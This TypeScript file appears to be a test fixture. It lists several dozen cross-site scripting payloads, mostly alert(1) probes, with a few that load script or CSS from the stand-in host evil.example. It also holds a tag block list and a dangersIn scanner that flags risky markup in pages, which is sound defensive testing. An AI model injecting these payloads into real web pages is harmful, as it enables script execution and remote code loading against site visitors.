const CALL = 'alert(1)';

/** What scripts hide in, wherever a text may land: in an element, an attribute, an address, a style, a script, a comment. */
export const XSS: readonly string[] = [
  `<script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script>`,
  `<script\n>${CALL}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `＜script＞${CALL}＜/script＞`,
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}"`,
  `"><img src=x onerror=${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<math><mtext></mtext><a href=javascript:${CALL}>x</a></math>`,
  `<body onload=${CALL}>`,
  `<iframe src=javascript:${CALL}>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`,
  `<base href=javascript:${CALL}//>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action=javascript:${CALL}><button>x`,
  `<button formaction=javascript:${CALL}>x`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<audio src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="jav&#x09;ascript:${CALL}">x</a>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><script>${CALL}</script>">`,
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `" onmouseover="${CALL}`,
  `\` onmouseover=${CALL} \``,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  ` javascript:${CALL}`,
  `javascript://stranger.example/%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:msgbox(1)`,
  `\${${CALL}}{{${CALL}}}<%= ${CALL} %>`,
  `\u202e<script>${CALL}</script>`,
];

const NEVER =
  /^(script|img|image|svg|math|iframe|object|embed|base|link|video|audio|source|marquee|animate|template)$/;

/** Whatever in a page could run, load or lead somewhere that its own words do not. Our pages have none of it. */
export function dangersIn(page: string): string[] {
  const dangers: string[] = [];
  let styles = 0;
  for (const [whole, tag, rest] of page.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)) {
    if (NEVER.test(tag!.toLowerCase()) || (/^style$/i.test(tag!) && (styles += 1) > 1)) dangers.push(whole);
    for (const [attribute, name, value] of rest!.matchAll(
      /([^\s=/"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g,
    )) {
      const leads =
        /^(href|src|action|formaction|data)$/i.test(name!) && !/^["']?([?#/]|https:)/.test(value ?? '');
      if (leads || /^(on|style$|srcdoc$|http-equiv$)/i.test(name!)) dangers.push(attribute);
    }
  }
  return dangers;
}
